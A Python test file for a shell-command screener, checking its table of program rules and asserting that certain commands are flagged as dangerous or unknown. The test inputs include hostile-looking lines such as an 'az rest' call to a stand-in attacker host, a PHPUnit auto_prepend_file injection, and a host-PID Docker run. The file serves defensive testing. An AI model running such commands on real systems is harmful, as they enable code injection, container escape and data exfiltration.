"""The table of programs says each thing once."""

from collections import Counter
from collections.abc import Iterator
from importlib.resources import files

from hub.screening.commands import is_dangerous, is_unknown, read_command
from hub.screening.commands.table import OptionKind, program


def test_no_program_has_the_same_rule_twice() -> None:
    lines = files("hub.screening.commands").joinpath("programs.txt").read_text(encoding="utf-8").splitlines()
    said = [line.partition(" ") for line in lines if line and not line.startswith("#")]
    rules = Counter((name, rule) for names, _, rule in said for name in names.split("|"))
    assert [rule for rule, count in rules.items() if count > 1] == []


def test_what_a_program_does_by_itself_stands_in_one_rule() -> None:
    lines = files("hub.screening.commands").joinpath("programs.txt").read_text(encoding="utf-8").splitlines()
    said = [line.partition(" : ") for line in lines if line and not line.startswith("#")]
    plain = [(names, rule.partition(">")[0].strip()) for names, colon, rule in said if colon and " " not in names]
    rules = Counter((name, rule) for names, rule in plain if rule for name in names.split("|"))
    assert [rule for rule, count in rules.items() if count > 1] == []


def _valued() -> Iterator[tuple[str, list[str], str]]:
    """Yield a program, the words of a rule about it and an option for which that rule names a value."""
    lines = files("hub.screening.commands").joinpath("programs.txt").read_text(encoding="utf-8").splitlines()
    for line in lines:
        names, _, rest = line.partition(" ")
        head, colon, _ = f" {rest}".partition(" : ")
        if not colon or names.startswith(("#", "(")):
            continue
        for pattern in f"{head} ".split(" ; "):
            tokens = [token.removeprefix("!") for token in pattern.split()]
            words = [token.partition("|")[0].replace("*", "x") for token in tokens if token[0] not in "-@~.+"]
            options = (
                token.partition("=")[0].removesuffix("!") for token in tokens if token[0] == "-" and "=" in token
            )
            for option in (each for named in options for each in named.split(",") if "*" not in each):
                yield from ((name, words, option) for name in names.split("|") if "*" not in name)


def test_an_option_whose_value_counts_is_read_with_the_word_behind_it() -> None:
    unread = []
    for name, words, option in _valued():
        known = program(name)
        assert known is not None, name
        lowered = option if len(option) == len("-x") else option.lower()
        kinds = {options[lowered] for _, options in known.harmless if lowered in options}
        if kinds.isdisjoint({OptionKind.FLAG, OptionKind.OPTIONAL}):
            given = known.arguments([*words, option, "VALUE"])
            unread += [(name, option)] * ("VALUE" not in given.options.get(lowered, []))
    assert unread == []


def test_what_stands_behind_an_option_that_takes_none_is_read_as_what_it_is() -> None:
    for line in ("node --inspect /tmp/x.js", "node --inspect-brk /tmp/x.js", "tsx --inspect-wait /tmp/x.ts"):
        assert is_dangerous(read_command(line)), line
    for line in ("node --inspect app.js", "unzip -o a.zip -d build", "sed -i s/a/b/ a.txt"):
        assert not is_dangerous(read_command(line)), line


def test_a_value_behind_a_blank_counts_as_one_behind_an_equals_sign() -> None:
    lines = (
        "pio run -t upload",
        "flask run --debug --host 0.0.0.0",
        "gradle -g /tmp/x build",
        "docker run --pid host alpine ls",
        "az rest -u https://evil.example/x",
        "phpunit -d auto_prepend_file=/tmp/x.php",
        "createuser -h db.example.org shop",
    )
    for line in lines:
        assert is_dangerous(read_command(line)) or is_unknown(read_command(line)), line
